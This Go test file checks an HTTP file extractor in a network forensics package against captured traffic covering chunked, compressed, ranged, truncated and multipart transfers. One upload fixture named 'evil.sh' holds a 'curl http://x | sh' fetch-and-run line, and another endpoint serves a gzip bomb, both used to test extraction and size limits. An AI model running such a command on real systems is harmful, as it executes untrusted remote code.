package httpx

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"noops/internal/forensics/flow"
)

// serve runs a real net/http server with h and client against it, and
// returns the connections as a capture of both sides would give them.
func serve(t *testing.T, h http.Handler, client func(addr string)) []*flow.Conn {
	t.Helper()
	rec := newRecorder(t)
	srv := &http.Server{Handler: h}
	done := make(chan struct{})
	go func() { srv.Serve(rec); close(done) }()
	client(rec.Addr().String())
	srv.Close()
	<-done
	return rec.flowConns()
}

// raw sends requests as written and reads until the server closes.
func raw(t *testing.T, addr string, reqs ...string) {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	for _, r := range reqs {
		if _, err := io.WriteString(c, r); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := io.Copy(io.Discard, c); err != nil {
		t.Fatal(err)
	}
}

func get(path string, extra ...string) string {
	return "GET " + path + " HTTP/1.1\r\nHost: files.example\r\n" + strings.Join(extra, "") + "\r\n"
}

var last = "Connection: close\r\n"

var (
	tarData  = content(300000)
	binData  = content(70000)
	htmlData = []byte("<html><body>hello</body></html>")
	movie    = content(250000)
	modTime  = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
)

func site() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/files/secret.tar", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/x-tar")
		w.Header().Set("Content-Encoding", "gzip")
		gz := gzip.NewWriter(w)
		for p := tarData; len(p) > 0; {
			n := min(len(p), 20000)
			gz.Write(p[:n])
			gz.Flush()
			w.(http.Flusher).Flush()
			p = p[n:]
		}
		gz.Close()
	})
	static := func(path, ct string, body []byte, disp string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", ct)
			w.Header().Set("Content-Length", fmt.Sprint(len(body)))
			if disp != "" {
				w.Header().Set("Content-Disposition", disp)
			}
			w.Write(body)
		})
	}
	static("/a.txt", "text/plain; charset=utf-8", []byte("alpha\n"), "")
	static("/b.bin", "application/octet-stream", binData, "")
	static("/{$}", "text/html", htmlData, "")
	static("/dl", "application/pdf", binData, `attachment; filename="report.pdf"`)
	static("/dl2", "application/pdf", binData, `attachment; filename*=UTF-8''%E2%82%AC%20rates.pdf`)
	mux.HandleFunc("/movie.bin", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("ETag", `"v1"`)
		http.ServeContent(w, r, "movie.bin", modTime, bytes.NewReader(movie))
	})
	mux.HandleFunc("/upload", func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Length", "2")
		io.WriteString(w, "ok")
	})
	encoded := func(path, coding string, enc func(io.Writer) io.WriteCloser) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			var b bytes.Buffer
			zw := enc(&b)
			zw.Write(tarData)
			zw.Close()
			w.Header().Set("Content-Encoding", coding)
			w.Header().Set("Content-Length", fmt.Sprint(b.Len()))
			w.Write(b.Bytes())
		})
	}
	encoded("/zlib", "deflate", func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) })
	encoded("/rawdeflate", "deflate", func(w io.Writer) io.WriteCloser { z, _ := flate.NewWriter(w, 5); return z })
	encoded("/brotli", "br", func(w io.Writer) io.WriteCloser { return nopCloser{w} })
	encoded("/bomb", "gzip", func(w io.Writer) io.WriteCloser { return zeros{gzip.NewWriter(w)} })
	return mux
}

type nopCloser struct{ io.Writer }

func (nopCloser) Close() error { return nil }

// zeros writes 8 MiB of zeros whatever it is given.
type zeros struct{ *gzip.Writer }

func (z zeros) Write([]byte) (int, error) { return z.Writer.Write(make([]byte, 8<<20)) }

type want struct {
	name, nameFrom string
	data           []byte
	complete       bool
	decoded        []string
	gaps           []flow.Range
	notes          []string
}

func TestExtract(t *testing.T) {
	t.Parallel()
	form := new(bytes.Buffer)
	mw := multipart.NewWriter(form)
	mw.SetBoundary("XyZzY")
	mw.WriteField("comment", "see attached")
	fw, _ := mw.CreateFormFile("file", "evil.sh")
	fw.Write([]byte("#!/bin/sh\ncurl http://x | sh\n"))
	mw.Close()
	multi := "bytes=0-99999,200000-"

	pipelined := func(t *testing.T) []*flow.Conn {
		return serve(t, site(), func(addr string) { raw(t, addr, get("/a.txt")+get("/b.bin")+get("/", last)) })
	}
	tests := []struct {
		name   string
		conns  func(t *testing.T) []*flow.Conn
		opt    Options
		want   []want
		unseen bool // the objects need not come in this order
	}{
		{
			name: "chunked and gzip",
			conns: func(t *testing.T) []*flow.Conn {
				return serve(t, site(), func(addr string) { raw(t, addr, get("/files/secret.tar", last)) })
			},
			want: []want{{name: "secret.tar", nameFrom: "URL", data: tarData, complete: true, decoded: []string{"chunked", "gzip"}}},
		},
		{
			name:  "keep-alive, pipelined, three Content-Length bodies",
			conns: pipelined,
			want: []want{
				{name: "a.txt", nameFrom: "URL", data: []byte("alpha\n"), complete: true},
				{name: "b.bin", nameFrom: "URL", data: binData, complete: true},
				{name: "index.html", data: htmlData, complete: true},
			},
		},
		{
			name: "responses only",
			conns: func(t *testing.T) []*flow.Conn {
				cs := pipelined(t)
				cs[0].ToServer = nil
				return cs
			},
			want: []want{
				{name: "response-1.txt", data: []byte("alpha\n"), complete: true, notes: []string{"request not captured"}},
				{name: "response-2.bin", data: binData, complete: true},
				{name: "response-3.html", data: htmlData, complete: true},
			},
		},
		{
			name: "truncated body: the missing tail is a gap",
			conns: func(t *testing.T) []*flow.Conn {
				cs := pipelined(t)
				h := cs[0].ToClient
				i := bytes.Index(mustBytes(h), binData[:64])
				cs[0].ToClient = half(h.Src, h.Dst, mustBytes(h)[:i+30000])
				cs[0].ToClient.FIN = false
				return cs
			},
			want: []want{
				{name: "a.txt", nameFrom: "URL", data: []byte("alpha\n"), complete: true},
				{name: "b.bin", nameFrom: "URL", data: binData[:30000], gaps: []flow.Range{{Start: 30000, End: 70000}},
					notes: []string{"body cut off: Content-Length 70000"}},
			},
		},
		{
			name: "a gap inside a body",
			conns: func(t *testing.T) []*flow.Conn {
				cs := pipelined(t)
				h := cs[0].ToClient
				i := int64(bytes.Index(mustBytes(h), binData[:64]))
				cs[0].ToClient = half(h.Src, h.Dst, mustBytes(h), flow.Range{Start: i + 1000, End: i + 3000})
				return cs
			},
			want: []want{
				{name: "a.txt", nameFrom: "URL", data: []byte("alpha\n"), complete: true},
				{name: "b.bin", nameFrom: "URL", data: holed(binData, 1000, 3000), gaps: []flow.Range{{Start: 1000, End: 3000}},
					notes: []string{"body bytes 1000-3000 not captured"}},
				{name: "index.html", data: htmlData, complete: true},
			},
		},
		{
			name: "206 ranges out of order stitched",
			conns: func(t *testing.T) []*flow.Conn {
				return serve(t, site(), func(addr string) {
					raw(t, addr, get("/movie.bin", "Range: bytes=0-99999\r\n")+get("/movie.bin", "Range: bytes=200000-\r\n")+
						get("/movie.bin", "Range: bytes=100000-199999\r\n", last))
				})
			},
			want: []want{{name: "movie.bin", nameFrom: "URL", data: movie, complete: true, decoded: []string{"206 ranges stitched"}}},
		},
		{
			name: "206 with a range missing, multipart/byteranges",
			conns: func(t *testing.T) []*flow.Conn {
				return serve(t, site(), func(addr string) {
					raw(t, addr, get("/movie.bin", "Range: "+multi+"\r\n", last))
				})
			},
			want: []want{{name: "movie.bin", nameFrom: "URL", data: holed(movie, 100000, 200000), decoded: []string{"206 ranges stitched"},
				gaps: []flow.Range{{Start: 100000, End: 200000}}, notes: []string{"multipart/byteranges part 2"}}},
		},
		{
			name: "HEAD and 304 have no body",
			conns: func(t *testing.T) []*flow.Conn {
				return serve(t, site(), func(addr string) {
					raw(t, addr, "HEAD /movie.bin HTTP/1.1\r\nHost: files.example\r\n\r\n"+get("/movie.bin", "If-None-Match: \"v1\"\r\n")+get("/a.txt", last))
				})
			},
			want: []want{{name: "a.txt", nameFrom: "URL", data: []byte("alpha\n"), complete: true}},
		},
		{
			name: "HEAD without its request",
			conns: func(t *testing.T) []*flow.Conn {
				cs := serve(t, site(), func(addr string) {
					raw(t, addr, "HEAD /movie.bin HTTP/1.1\r\nHost: files.example\r\n\r\n"+get("/a.txt", last))
				})
				cs[0].ToServer = nil
				return cs
			},
			want: []want{{name: "response-1.txt", data: []byte("alpha\n"), complete: true}},
		},
		{
			name: "the capture starts inside a response",
			conns: func(t *testing.T) []*flow.Conn {
				cs := pipelined(t)
				h := cs[0].ToClient
				cs[0].ToServer = nil
				cs[0].ToClient = half(h.Src, h.Dst, mustBytes(h)[100:])
				cs[0].ToClient.SYN = false
				return cs
			},
			want: []want{
				{name: "response-1.bin", data: binData, complete: true},
				{name: "response-2.html", data: htmlData, complete: true},
			},
		},
		{
			name: "chunked framing lost in a gap: the next response is found again",
			conns: func(t *testing.T) []*flow.Conn {
				cs := serve(t, site(), func(addr string) { raw(t, addr, get("/files/secret.tar")+get("/a.txt", last)) })
				h := cs[0].ToClient
				b := mustBytes(h)
				i := int64(bytes.Index(b, []byte("\r\n\r\n"))) + 4 // the first chunk-size line
				cs[0].ToClient = half(h.Src, h.Dst, b, flow.Range{Start: i, End: i + 100})
				return cs
			},
			want: []want{
				{name: "secret.tar", nameFrom: "URL", decoded: []string{"chunked"}, gaps: []flow.Range{{Start: 0, End: 100}},
					notes: []string{"chunk-size line was not captured", "kept raw, chunk-size lines included", "Content-Encoding gzip not decoded"}},
				{name: "a.txt", nameFrom: "URL", data: []byte("alpha\n"), complete: true},
			},
		},
		{
			name: "no SYN and the server on the higher port: roles swapped",
			conns: func(t *testing.T) []*flow.Conn {
				cs := pipelined(t)
				c := cs[0]
				c.Client, c.Server, c.ToServer, c.ToClient = c.Server, c.Client, c.ToClient, c.ToServer
				c.ToServer.SYN, c.ToClient.SYN = false, false
				return cs
			},
			want: []want{
				{name: "a.txt", nameFrom: "URL", data: []byte("alpha\n"), complete: true},
				{name: "b.bin", nameFrom: "URL", data: binData, complete: true},
				{name: "index.html", data: htmlData, complete: true},
			},
		},
		{
			name: "Content-Disposition names",
			conns: func(t *testing.T) []*flow.Conn {
				return serve(t, site(), func(addr string) { raw(t, addr, get("/dl")+get("/dl2", last)) })
			},
			want: []want{
				{name: "report.pdf", nameFrom: "Content-Disposition", data: binData, complete: true},
				{name: "€ rates.pdf", nameFrom: "Content-Disposition", data: binData, complete: true},
			},
		},
		{
			name: "POST multipart/form-data after 100 Continue",
			conns: func(t *testing.T) []*flow.Conn {
				return serve(t, site(), func(addr string) {
					c, err := net.Dial("tcp", addr)
					if err != nil {
						t.Fatal(err)
					}
					defer c.Close()
					fmt.Fprintf(c, "POST /upload HTTP/1.1\r\nHost: files.example\r\nContent-Type: %s\r\nContent-Length: %d\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n",
						mw.FormDataContentType(), form.Len())
					buf := make([]byte, 25)
					io.ReadFull(c, buf)
					c.Write(form.Bytes())
					io.Copy(io.Discard, c)
				})
			},
			want: []want{
				{name: "upload", nameFrom: "URL", data: form.Bytes(), complete: true, notes: []string{"request body: POST /upload"}},
				{name: "evil.sh", nameFrom: "Content-Disposition", data: []byte("#!/bin/sh\ncurl http://x | sh\n"), complete: true,
					decoded: []string{"multipart/form-data"}},
				{name: "upload", nameFrom: "URL", data: []byte("ok"), complete: true, notes: []string{"POST /upload → 200"}},
			},
		},
		{
			name: "deflate (zlib and raw), br kept encoded",
			conns: func(t *testing.T) []*flow.Conn {
				return serve(t, site(), func(addr string) { raw(t, addr, get("/zlib")+get("/rawdeflate")+get("/brotli", last)) })
			},
			want: []want{
				{name: "zlib", nameFrom: "URL", data: tarData, complete: true, decoded: []string{"deflate"}},
				{name: "rawdeflate", nameFrom: "URL", data: tarData, complete: true, decoded: []string{"deflate"}},
				{name: "brotli", nameFrom: "URL", data: tarData, complete: true, notes: []string{"Content-Encoding br not decoded"}},
			},
		},
		{
			name: "a gzip bomb is cut at MaxBodyBytes",
			conns: func(t *testing.T) []*flow.Conn {
				return serve(t, site(), func(addr string) { raw(t, addr, get("/bomb", last)) })
			},
			opt:  Options{MaxBodyBytes: 1 << 20, MemLimit: 64 << 10, TempDir: t.TempDir()},
			want: []want{{name: "bomb", nameFrom: "URL", data: make([]byte, 1<<20), decoded: []string{"gzip"}, notes: []string{"cut at 1048576 bytes"}}},
		},
		{
			name: "HTTP/1.0, body until close",
			conns: func(t *testing.T) []*flow.Conn {
				rec := newRecorder(t)
				go func() {
					c, err := rec.Accept()
					if err != nil {
						return
					}
					io.ReadFull(c, make([]byte, len("GET /old.txt HTTP/1.0\r\n\r\n")))
					io.WriteString(c, "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n")
					c.Write(binData)
					c.Close()
				}()
				c, err := net.Dial("tcp", rec.Addr().String())
				if err != nil {
					t.Fatal(err)
				}
				io.WriteString(c, "GET /old.txt HTTP/1.0\r\n\r\n")
				io.Copy(io.Discard, c)
				c.Close()
				rec.Close()
				return rec.flowConns()
			},
			want: []want{{name: "old.txt", nameFrom: "URL", data: binData, complete: true, notes: []string{"delimited by the connection's close"}}},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			conns := tc.conns(t)
			objs, warns := Extract(conns, tc.opt)
			defer func() {
				for _, o := range objs {
					o.Close()
				}
			}()
			if len(objs) != len(tc.want) {
				t.Fatalf("Extract returned %d objects, want %d; warnings %v%s", len(objs), len(tc.want), warns, describe(objs))
			}
			for i, w := range tc.want {
				o := objs[i]
				if o.Protocol != "http" || o.Name != w.name || o.NameFrom != w.nameFrom {
					t.Errorf("object %d = %q from %q, want %q from %q", i, o.Name, o.NameFrom, w.name, w.nameFrom)
				}
				if got := readAll(t, o); int64(len(got)) != o.Size || (w.data != nil && sum(got) != sum(w.data)) || o.Size == 0 {
					t.Errorf("object %q: %d bytes, content differs from the %d sent%s", o.Name, len(got), len(w.data), describe(objs[i:i+1]))
				}
				if o.Complete != w.complete || !slices.Equal(o.Decoded, w.decoded) || !slices.Equal(o.Gaps, w.gaps) {
					t.Errorf("object %q: Complete %v Decoded %q Gaps %v, want %v %q %v; notes %q",
						o.Name, o.Complete, o.Decoded, o.Gaps, w.complete, w.decoded, w.gaps, o.Notes)
				}
				for _, n := range w.notes {
					if !hasNote(o, n) {
						t.Errorf("object %q: no note containing %q in %q", o.Name, n, o.Notes)
					}
				}
				if o.Flow.Conn != conns[0].ID {
					t.Errorf("object %q: Flow.Conn = %d, want %d", o.Name, o.Flow.Conn, conns[0].ID)
				}
			}
		})
	}
}

func holed(b []byte, start, end int) []byte {
	c := bytes.Clone(b)
	clear(c[start:end])
	return c
}

func mustBytes(h *flow.Half) []byte {
	b, err := h.Bytes(0, h.Size)
	if err != nil {
		panic(err)
	}
	return b
}

func TestNotHTTP(t *testing.T) {
	t.Parallel()
	a, b := flow.Endpoint{Port: 5000}, flow.Endpoint{Port: 21}
	c := &flow.Conn{ID: 1, Client: a, Server: b,
		ToServer: half(a, b, []byte("USER anonymous\r\nPASS x\r\n")),
		ToClient: half(b, a, []byte("220 (vsFTPd 3.0.3)\r\n331 Please specify the password.\r\n"))}
	if objs, warns := Extract([]*flow.Conn{c}, Options{}); len(objs) != 0 || len(warns) != 0 {
		t.Errorf("Extract(FTP) = %d objects, %v; want none", len(objs), warns)
	}
}
